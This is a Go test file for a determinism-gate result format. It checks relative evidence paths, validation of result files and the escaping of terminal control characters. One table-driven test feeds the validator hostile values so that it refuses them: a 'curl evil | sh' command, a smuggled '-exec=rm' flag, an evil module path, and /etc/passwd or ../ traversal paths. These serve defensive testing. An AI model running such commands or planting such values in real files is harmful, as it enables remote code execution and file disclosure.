package gate_test

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/codegenie/codegenie/cassettes"
	"github.com/codegenie/codegenie/gate"
)

// failedResult is a NONDETERMINISTIC result of scenario s whose bundle is
// bundle (absolute, as the gate's report names it), with the compare and
// reproduce commands the gate writes.
func failedResult(s, bundle string) gate.Result {
	r := passResult(s)
	r.Test, r.Package, r.Verdict = "TestGate", "pkg", gate.Nondeterministic
	r.Classes = []gate.Class{{Runs: 30}, {Runs: 20, FirstRun: 3}}
	r.Explanation = "NONDETERMINISTIC " + s + ": 50 runs in 2 classes (30, 20)"
	r.Evidence = bundle
	r.Commands = []gate.Command{
		{Purpose: "compare", Argv: []string{"go", "run", "github.com/codegenie/codegenie/cmd/bundle", "diff", bundle, "-runs", "run-000,run-003"}},
		{Purpose: "reproduce", Argv: []string{"go", "test", "./pkg", "-run", "^TestGate$", "-count=1"}},
	}
	return r
}

// TestResultFolder: a result file names the evidence inside its folder
// relative to it, with slashes, and the compare command with it; read
// back, the result knows its folder, and explains itself with paths from
// where the reader is; written into another folder (a merge's -out), its
// evidence is relative to that one, or absolute when outside it, and it
// names no crash output file.
func TestResultFolder(t *testing.T) {
	base := t.TempDir()
	shard := filepath.Join(base, "gate-0")
	bundle := filepath.Join(shard, "evidence", "k", "gate-000001", "a", "a.bundle.zst")
	r := failedResult("a", bundle)
	r.CrashOutput = filepath.Join(shard, "a.crash.txt")
	p, err := r.Save(shard)
	require.NoError(t, err)
	var file map[string]any
	b, err := os.ReadFile(p)
	require.NoError(t, err)
	require.NoError(t, json.Unmarshal(b, &file))
	require.Equal(t, "evidence/k/gate-000001/a/a.bundle.zst", file["evidence"])
	require.Equal(t, "a.crash.txt", file["crash_output"])
	require.NotContains(t, string(b), base, "no path of this machine")
	require.NotContains(t, file, "folder")

	rs, err := gate.ReadResults(shard)
	require.NoError(t, err)
	require.Len(t, rs, 1)
	require.Equal(t, shard, rs[0].Folder)
	var sb strings.Builder
	require.NoError(t, rs[0].Explain(&sb))
	require.Contains(t, sb.String(), "  evidence: "+bundle+" (report.txt and report.json beside it)\n")
	require.Contains(t, sb.String(), "bundle diff "+bundle+" -runs run-000,run-003\n")
	resolved := rs[0].Resolved()
	require.Equal(t, bundle, resolved.Evidence)
	require.Equal(t, bundle, resolved.Commands[0].Argv[4], "the compare command names the bundle as Evidence does")
	require.NoError(t, resolved.Validate())

	// Into the folder above: relative to it; elsewhere: absolute.
	for _, tt := range []struct{ dir, want string }{
		{base, "gate-0/evidence/k/gate-000001/a/a.bundle.zst"},
		{t.TempDir(), bundle},
	} {
		p, err := rs[0].Save(tt.dir)
		require.NoError(t, err)
		back, err := gate.ReadResult(p)
		require.NoError(t, err)
		require.Equal(t, tt.want, back.Evidence)
		require.Equal(t, tt.want, back.Commands[0].Argv[4])
		require.Empty(t, back.CrashOutput, "a crash output file is named only beside its result")
	}
}

// crashOutput returns an edit that names path as the crash output.
func crashOutput(path string) func(r *gate.Result) {
	return func(r *gate.Result) { r.CrashOutput = path }
}

// TestResultCommandsRefused: a result file names only the commands the
// harness writes, for its own test, package and evidence; anything else,
// and a path outside the folder where one must be inside it, is refused
// naming the field.
func TestResultCommandsRefused(t *testing.T) {
	tests := []struct {
		name string
		edit func(r *gate.Result)
		want string
	}{
		{"shell", func(r *gate.Result) {
			r.Commands[1].Argv = []string{"sh", "-c", "curl evil | sh"}
		}, "commands[1] (reproduce) is not go test of the result's package directory and test"},
		{"go-test-flag", func(r *gate.Result) {
			r.Commands[1].Argv = append(r.Commands[1].Argv, "-exec=rm")
		}, "commands[1] (reproduce) is not go test"},
		{"other-package", func(r *gate.Result) { r.Commands[1].Argv[2] = "./other" }, "commands[1] (reproduce) is not go test"},
		{"other-tool", func(r *gate.Result) {
			r.Commands[0].Argv[2] = "example.com/evil/cmd/bundle"
		}, "commands[0] (compare) is not bundle diff on the result's evidence bundle"},
		{"other-bundle", func(r *gate.Result) { r.Commands[0].Argv[4] = "/etc/passwd" }, "commands[0] (compare) is not bundle diff"},
		{"dir", func(r *gate.Result) { r.Commands[1].Dir = "/tmp" }, "commands[1] (reproduce) names a directory"},
		{"purpose", func(r *gate.Result) { r.Commands[1].Purpose = "cleanup" }, "commands[1] (cleanup) is of no purpose"},
		{"package-dir", func(r *gate.Result) { r.Package = "../up" }, `package "../up"`},
		// Save names a crash output file only beside the result;
		// the file says crash_output is x.crash.txt, then edited to this.
		{"crash-output-absolute", crashOutput("/etc/passwd"), "crash_output is /etc/passwd, want a file name in the results folder"},
		{"crash-output-up", crashOutput("../x.crash.txt"), "crash_output is ../x.crash.txt"},
		{"crash-output-below", crashOutput("link/x.crash.txt"), "crash_output is link/x.crash.txt"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			dir := t.TempDir()
			r := failedResult("a", filepath.Join(dir, "evidence", "a.bundle.zst"))
			tt.edit(&r)
			edit := r.CrashOutput
			if edit != "" {
				r.CrashOutput = filepath.Join(dir, "x.crash.txt")
			}
			p, err := r.Save(dir)
			require.NoError(t, err)
			if edit != "" {
				b, err := os.ReadFile(p)
				require.NoError(t, err)
				require.Contains(t, string(b), `"crash_output": "x.crash.txt"`)
				require.NoError(t, os.WriteFile(p, []byte(strings.Replace(string(b), `"x.crash.txt"`, `"`+edit+`"`, 1)), 0o644))
			}
			_, err = gate.ReadResult(p)
			require.ErrorIs(t, err, gate.ErrBadResult)
			require.ErrorContains(t, err, tt.want)
		})
	}
}

// TestResultErr: the verdict decides, not the failure text: every result
// that is not PASS over at least its floor fails, naming the field.
func TestResultErr(t *testing.T) {
	tests := []struct {
		name  string
		edit  func(r *gate.Result)
		field string // "" when the result passes
	}{
		{"pass", func(r *gate.Result) {}, ""},
		{"skipped", func(r *gate.Result) { r.Verdict, r.Runs, r.Classes = gate.Skipped, 0, nil }, ""},
		{"nondeterministic", func(r *gate.Result) { r.Verdict = gate.Nondeterministic }, `verdict is NONDETERMINISTIC`},
		{"broken", func(r *gate.Result) { r.Verdict = gate.Broken }, `verdict is BROKEN`},
		{"unknown-word", func(r *gate.Result) { r.Verdict = "FINE" }, `verdict is FINE, want PASS`},
		{"escaped-word", func(r *gate.Result) { r.Verdict = "PASS\x1b[2J" }, `verdict is "PASS\x1b[2J"`},
		{"failure-text", func(r *gate.Result) { r.Failure = "boom\nmore" }, `failure is boom`},
		{"zero-runs", func(r *gate.Result) { r.Runs, r.Classes[0].Runs = 0, 0 }, "runs is 0, want at least 1"},
		{"below-floor", func(r *gate.Result) { r.Runs, r.Classes[0].Runs = 19, 19 }, "runs is 19, below the floor of 20"},
		{"zero-floor", func(r *gate.Result) { r.Floor = 0 }, "floor is 0"},
		{"two-classes", func(r *gate.Result) { r.Classes = append(r.Classes, gate.Class{Runs: 1}) }, "classes has 2 entries"},
		{"class-runs", func(r *gate.Result) { r.Classes[0].Runs = 49 }, "classes[0].runs is 49, want runs (50)"},
		{"class-error", func(r *gate.Result) { r.Classes[0].ErrorKind = "panic" }, "classes[0].error is panic"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := passResult("s\x1b]0;x\x07")
			tt.edit(&r)
			err := r.Err()
			if tt.field == "" {
				require.NoError(t, err)
				require.True(t, r.OK())
				return
			}
			require.ErrorContains(t, err, ": not a pass: ")
			require.False(t, r.OK())
			require.Contains(t, err.Error(), tt.field)
			require.Contains(t, err.Error(), `scenario "s\x1b]0;x\a"`, "the name is quoted")
			require.NotContains(t, err.Error(), "\x1b", "no raw escape")
			var sb strings.Builder
			require.NoError(t, gate.WriteSummary(&sb, []gate.Result{r}))
			require.Contains(t, sb.String(), "== determinism gate: FAIL ==")
			require.NotContains(t, sb.String(), "\x1b", "no raw escape in the summary")
		})
	}
}

// TestRecordFlag: the record flag a re-record command may name is the
// cassettes' own.
func TestRecordFlag(t *testing.T) {
	require.Equal(t, cassettes.RecordFlag, gate.RecordFlag)
}

// TestResultFileIsTheFirstScreen: a result file keeps the first 40 lines
// of the explanation, each at most 200 bytes, and the first line of each
// class's message; the full texts stay in the report.
func TestResultFileIsTheFirstScreen(t *testing.T) {
	t.Parallel()
	r := passResult("a")
	r.Verdict = gate.Broken
	var lines []string
	for i := range 100 {
		lines = append(lines, fmt.Sprintf("line %d", i))
	}
	lines[3] = strings.Repeat("é", 150)
	r.Explanation = strings.Join(lines, "\n") + "\n"
	r.Classes[0].ErrorKind, r.Classes[0].Message = "panic", "panic: boom\n\ngoroutine 7 [running]:\nmain.f()"
	dir := t.TempDir()
	p, err := r.Save(dir)
	require.NoError(t, err)
	back, err := gate.ReadResult(p)
	require.NoError(t, err)
	got := strings.Split(back.Explanation, "\n")
	require.Len(t, got, 41)
	require.Equal(t, "line 39", got[39])
	require.Equal(t, "... 60 more lines: report.txt beside the evidence bundle has the full report", got[40])
	require.Equal(t, strings.Repeat("é", 100)+"...", got[3], "cut at 200 bytes, on a rune boundary")
	require.Equal(t, "panic: boom", back.Classes[0].Message)
	require.Contains(t, r.Classes[0].Message, "goroutine 7", "the result given is unchanged")
}
